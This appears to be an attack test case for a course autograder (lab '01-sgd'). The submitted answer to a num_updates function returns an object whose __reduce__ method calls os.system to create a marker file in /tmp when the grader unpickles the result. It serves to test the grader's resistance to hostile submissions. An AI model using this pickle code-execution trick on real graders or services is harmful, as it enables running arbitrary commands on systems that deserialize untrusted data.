# /// attack
# title = "Return what runs code when it is unpickled"
# lab = "01-sgd"
# class = "evil objects"
# fails = ["num-updates-tests"]
# flags = ["odd result"]
# ///

# %% role="answer" id="num-updates"


class Run:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/@MARK@",)


def num_updates(num_samples, batch_size, num_epochs):
    return Run()
